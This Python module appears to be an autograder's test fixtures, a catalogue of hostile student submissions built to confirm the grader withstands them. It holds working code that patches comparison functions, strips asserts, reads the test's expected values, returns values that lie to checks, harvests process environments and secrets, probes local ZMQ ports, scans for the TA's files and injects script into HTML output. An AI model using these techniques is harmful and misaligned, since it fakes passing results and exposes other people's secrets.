"""The second catalogue of hostile submissions: one case per class of attack on the grader.

Written from the classes of attack a red team found (not from its held-back cases):
code that re-patches the test's tools *while* it runs (threads, signal handlers,
finalizers, a replaced ``compile``), code that lies about where it lives (a patched
function compiled under a library's file name, a ``course_utils.py`` handed in beside
the notebook, the kit's source compiled under another name), code that reads the test's
own state (frames, ``gc``), return values that lie (a ``Tensor`` subclass, a ``float``
subclass, a patched oracle library behind an import hook), and code that reaches for
what is not its own (the grader's environment, other kernels' traffic, the TA's
downloads) or floods the grader (huge outputs, ``exit()``).

Each case is built like those of :mod:`autograder_cases` (same target notebook, same
light reference, the same ``(files, tests that earn 0, summary regex)``); the tests in
``test_autograder_grading.py`` check the points of every case and, for the cases that
reach for something, that nothing came back.
"""
from __future__ import annotations

from nbformat.v4 import new_code_cell, new_markdown_cell

from autograder_cases import Submission, start

SECRET_NAME, SECRET = "AUTOGRADER_TEST_SECRET", "s3cret-0f-the-grader-7c1d"   # planted in the grader's env
MARKER = "downloads-of-the-TA-5e2a"      # written into the TA's collected folder (outside /tmp)
SCRIPT = "student-script-9f3b"           # the HTML/JS payloads carry it


def _wrap(s: Submission, k: int, body: str) -> list[str]:
    """Answer ``k`` becomes ``body`` around the right answer ``_right`` (scaled: wrong in value);
    return its tests."""
    answer = s.answers[k]
    cell = s.cell(answer.grade_id)
    cell.source += (f"\n\n_right_{answer.name} = {answer.name}\n\n\n"
                    f"def {answer.name}(*args, **kwargs):\n"
                    f"    value = _right_{answer.name}(*args, **kwargs) * 1.5 + 0.1\n"
                    + "".join(f"    {line}\n" for line in body.splitlines()))
    return list(answer.tests)


def _before(s: Submission, code: str) -> None:
    s.nb.cells.insert(2, new_code_cell(code))


PATCH_EVERYTHING = '''def _patch_everything():
    import builtins, math
    import numpy as np
    import torch
    yes = lambda *a, **k: True
    np.allclose = np.isclose = np.array_equal = yes
    torch.allclose = torch.equal = yes
    torch.isclose = lambda a, b, *r, **k: torch.ones_like(torch.as_tensor(a), dtype=torch.bool)
    math.isclose = yes
    builtins.abs = lambda x: 0
'''


# ------------------------------------------------------------------- re-patching during the test
def thread_repatch(course, a, nb):
    """A background thread re-patches every comparison every millisecond, all the time."""
    s = start(course, a, nb)
    lost = _wrap(s, 0, "return value")
    _before(s, PATCH_EVERYTHING + '''
import threading, time


def _again():
    while True:
        _patch_everything()
        time.sleep(0.001)


threading.Thread(target=_again, daemon=True).start()''')
    return s.files(), lost, r"failed "


def signal_repatch(course, a, nb):
    """A timer signal's handler re-patches the comparisons between any two bytecodes."""
    s = start(course, a, nb)
    lost = _wrap(s, 0, "return value")
    _before(s, PATCH_EVERYTHING + '''
import signal

signal.signal(signal.SIGALRM, lambda *args: _patch_everything())
signal.setitimer(signal.ITIMER_REAL, 0.01, 0.01)''')
    return s.files(), lost, r"failed "


def finalizer_repatch(course, a, nb):
    """Objects that re-patch the comparisons when collected, and rise again each time."""
    s = start(course, a, nb)
    lost = _wrap(s, 0, "return value")
    _before(s, PATCH_EVERYTHING + '''

class _Phoenix:
    def __init__(self):
        self.me = self            # a cycle: only gc.collect() frees it

    def __del__(self):
        _patch_everything()
        _Phoenix()


for _ in range(50):
    _Phoenix()''')
    return s.files(), lost, r"failed "


def compile_without_asserts(course, a, nb):
    """``builtins.compile`` and IPython's compiler replaced: every cell is compiled without its asserts."""
    s = start(course, a, nb)
    lost = _wrap(s, 0, "return value")
    _before(s, '''import ast, builtins

_compile = builtins.compile


class _NoAsserts(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()


def _compile_quietly(source, filename, mode, flags=0, *args, **kwargs):
    tree = source if isinstance(source, ast.AST) else \
        _compile(source, filename, mode, flags | ast.PyCF_ONLY_AST, *args, **kwargs)
    tree = ast.fix_missing_locations(_NoAsserts().visit(tree))
    return tree if flags & ast.PyCF_ONLY_AST else _compile(tree, filename, mode, flags, *args, **kwargs)


builtins.compile = _compile_quietly
get_ipython().ast_transformers.append(_NoAsserts())   # IPython's own compiler: cells lose their asserts''')
    return s.files(), lost, r"failed "


# ------------------------------------------------------------- lying about where code lives
def library_file_name(course, a, nb):
    """Patched comparisons compiled under torch's and numpy's own file names (look like theirs)."""
    s = start(course, a, nb)
    lost = _wrap(s, 0, "return value")
    _before(s, '''import numpy as np
import torch

_yes = eval(compile("lambda *a, **k: True", torch.__file__, "eval"))
_yes.__module__ = "torch"
torch.allclose = torch.equal = _yes
np.allclose = eval(compile("lambda *a, **k: True", np.__file__, "eval"))''')
    return s.files(), lost, r"failed "


FAKE_KIT = '''"""Handed in beside the notebook: would shadow the kit if the kernel imported it."""
raise ImportError("the student's course_utils.py was imported instead of the kit")
'''


def kit_beside_notebook(course, a, nb):
    """A ``course_utils.py`` handed in beside the notebook: the kernel must keep the real kit."""
    s = start(course, a, nb)
    lost = _wrap(s, 0, "return value")
    return {**s.files(), "course_utils.py": FAKE_KIT}, lost, r"failed "


def recompiled_kit(course, a, nb):
    """nt_xent made of the kit's own source, compiled under another file and module name."""
    from autograder_cases import _nt_xent

    s, ans = _nt_xent(course, a, nb)
    s.cell(ans.grade_id).source = '''import inspect
import course_utils.losses as _kit

_mine = {"__name__": "my_own_losses", "__package__": "course_utils"}
exec(compile(inspect.getsource(_kit), "/home/me/my_losses.py", "exec"), _mine)
nt_xent = _mine["nt_xent"]'''
    return s.files(), ans.tests, r"own code"


# ------------------------------------------------------------------- reading the test's state
def reads_the_test(course, a, nb):
    """The answer looks for the test's expected values in its callers' frames and in ``gc``."""
    s = start(course, a, nb)
    lost = _wrap(s, 0, '''import gc, sys
frame = sys._getframe(1)
while frame is not None:
    for key in ("want", "expected", "reference", "exact"):
        if key in frame.f_locals and not callable(frame.f_locals[key]):
            return frame.f_locals[key]
    frame = frame.f_back
for obj in gc.get_objects():
    if callable(obj) and getattr(obj, "__name__", "") in ("reference", "exact", "loop_risk"):
        return obj(*args, **kwargs)
return value''')
    return s.files(), lost, r"failed "


# ----------------------------------------------------------------------- lying return values
def lying_values(course, a, nb):
    """Results whose comparisons always agree: a Tensor subclass, a float subclass."""
    s = start(course, a, nb)
    lost = _wrap(s, 0, '''import torch


class _Liar(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if func in (torch.allclose, torch.equal, torch.Tensor.__bool__):
            return True
        if func in (torch.isclose, torch.Tensor.__eq__, torch.eq):
            return torch.ones((), dtype=torch.bool)
        with torch._C.DisableTorchFunctionSubclass():
            return func(*args, **(kwargs or {}))


class _LiarFloat(float):
    __eq__ = __le__ = __ge__ = __lt__ = __gt__ = lambda self, other: True
    __sub__ = __rsub__ = lambda self, other: 0.0
    __abs__ = lambda self: 0.0
    __hash__ = float.__hash__


def lie(v):
    if isinstance(v, torch.Tensor):
        return v.as_subclass(_Liar)
    if isinstance(v, float):
        return _LiarFloat(v)
    if isinstance(v, (tuple, list)):
        return type(v)(lie(x) for x in v)
    return v


return lie(value)''')
    return s.files(), lost, r"failed "


def patched_oracle(course, a, nb):
    """The libraries a test may compare with (scikit-learn, scipy, cleanlab, torch's functional)
    are patched, and an import hook hands out fakes of the ones not imported yet."""
    s = start(course, a, nb)
    lost = _wrap(s, 0, "return value")
    _before(s, '''import importlib.abc, importlib.machinery, sys, types

import torch.nn.functional as F
F.cross_entropy = F.nll_loss = lambda *a, **k: __import__("torch").tensor(0.0)


class _Fakes(importlib.abc.MetaPathFinder, importlib.abc.Loader):
    def find_spec(self, name, path, target=None):
        if name.split(".")[0] in ("sklearn", "scipy", "cleanlab"):
            return importlib.machinery.ModuleSpec(name, self, is_package=True)

    def create_module(self, spec):
        return types.ModuleType(spec.name)

    def exec_module(self, module):
        module.__path__ = []
        module.__getattr__ = lambda name: (lambda *a, **k: 0.0)


for name in [n for n in sys.modules if n.split(".")[0] in ("sklearn", "scipy", "cleanlab")]:
    del sys.modules[name]
sys.meta_path.insert(0, _Fakes())''')
    return s.files(), lost, r"failed "


# ------------------------------------------------------------ what is not the student's own
def snoops(course, a, nb):
    """Looks for the grader's environment, other kernels on the network and the TA's downloads,
    and prints whatever it finds (into its own feedback); one cell each, so that no part waits
    on another."""
    s = start(course, a, nb)
    _before(s, '''import os, pathlib

print("env:", dict(os.environ))
for proc in pathlib.Path("/proc").glob("[0-9]*"):
    try:
        text = (proc / "environ").read_bytes().replace(b"\\0", b" ")
        print("environ", proc.name, text.decode(errors="replace"))
    except OSError:
        pass''')
    _before(s, '''ports = []
for table in ("/proc/net/tcp", "/proc/net/tcp6"):
    try:
        ports += [int(line.split()[1].rsplit(":", 1)[1], 16) for line in open(table).readlines()[1:]]
    except OSError:
        pass
received = 0
try:
    import zmq
    context = zmq.Context.instance()
    for port in sorted(set(ports))[:20]:
        sub = context.socket(zmq.SUB)
        sub.setsockopt(zmq.SUBSCRIBE, b"")
        sub.connect(f"tcp://127.0.0.1:{port}")
        if sub.poll(300):
            received += len(sub.recv_multipart())
        sub.close(0)
except Exception as exc:
    print("zmq:", type(exc).__name__)
print("listening:", sorted(set(ports)), "received:", received)''')
    _before(s, f'''import itertools, pathlib

found = []
try:
    for root in ("/home", "/root", "/work", "/var", "/srv", "/mnt", "/opt", "/tmp", ".."):
        try:
            for path in itertools.islice(pathlib.Path(root).rglob("*"), 20000):
                if path.is_file() and path.stat().st_size < 2**20 and b"{MARKER}" in path.read_bytes():
                    found.append(str(path))
        except (OSError, RuntimeError):
            pass
finally:
    print("downloads:", found)''')
    return s.files(), [], r"\A(?!.*failed)"


def encodes_what_it_sees(course, a, nb):
    """A right answer that prints, base64-encoded, the source of every frame above it and every
    string constant of every code object in memory (a hidden line, however encoded, must not
    reach the feedback)."""
    s = start(course, a, nb)
    answer = s.answers[0]
    s.cell(answer.grade_id).source += f'''

import base64 as _b64, gc as _gc, inspect as _inspect, sys as _sys, types as _types

_plain_{answer.name} = {answer.name}


def {answer.name}(*args, **kwargs):
    seen = []
    frame = _sys._getframe(1)
    while frame is not None:
        try:
            seen.append(_inspect.getsource(frame))
        except (OSError, TypeError):
            pass
        frame = frame.f_back
    for obj in _gc.get_objects():
        if isinstance(obj, _types.CodeType):
            seen += [c for c in obj.co_consts if isinstance(c, str)]
    print("seen:", _b64.b64encode("\\n".join(seen).encode()).decode()[:200000])
    return _plain_{answer.name}(*args, **kwargs)
'''
    return s.files(), [], r"\A(?!.*failed)"


def html_payloads(course, a, nb):
    """Script, event handlers and javascript: links in outputs and in a markdown cell."""
    s = start(course, a, nb)
    _before(s, f'''from IPython.display import HTML, Javascript, display

display(HTML('<script>alert("{SCRIPT}")</script><img src=x onerror="alert(\\'{SCRIPT}\\')">'
             '<a href="javascript:alert(1)">{SCRIPT}</a><iframe src="https://example.org/{SCRIPT}"></iframe>'))
display(Javascript('alert("{SCRIPT}")'))''')
    s.nb.cells.insert(2, new_markdown_cell(
        f'<script>alert("{SCRIPT}")</script>\n\n<img src=x onerror="{SCRIPT}()">'))
    return s.files(), [], r"\A(?!.*failed)"


# --------------------------------------------------------------------------- floods, exits
def huge_outputs(course, a, nb):
    """24 MiB of text on few lines and 300 PNG figures (about 20 MiB): the notebook keeps at most
    its byte budget, the rest is cut with a note."""
    s = start(course, a, nb)
    s.insert_after(s.answers[0].tests[-1], new_code_cell(
        "import sys\n\nfor _ in range(24):\n    sys.stdout.write('x' * 2**20 + '\\n')"))
    s.insert_after(s.answers[0].tests[-1], new_code_cell(
        "import base64, os\nfrom IPython.display import Image, display\n\n"
        "png = base64.b64decode('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwAD'\n"
        "                       'hgGAWjR9awAAAABJRU5ErkJggg==')\n"
        "blob = png + os.urandom(50_000)\nfor _ in range(300):\n    display(Image(data=blob, format='png'))"))
    return s.files(), [], r"\A(?!.*failed)"


def exits_at_top_level(course, a, nb):
    """``exit()`` in a cell of its own: that cell is blamed and skipped, the next one is not."""
    s = start(course, a, nb)
    s.insert_after(s.answers[0].tests[-1], new_code_cell("exit()"))
    return s.files(), [], r"asked the kernel to exit.*notebook re-run without it"


CASES = [thread_repatch, signal_repatch, finalizer_repatch, compile_without_asserts, library_file_name,
         kit_beside_notebook, reads_the_test, lying_values, patched_oracle, snoops, encodes_what_it_sees,
         html_payloads, huge_outputs, exits_at_top_level]
NT_XENT_CASES = [recompiled_kit]
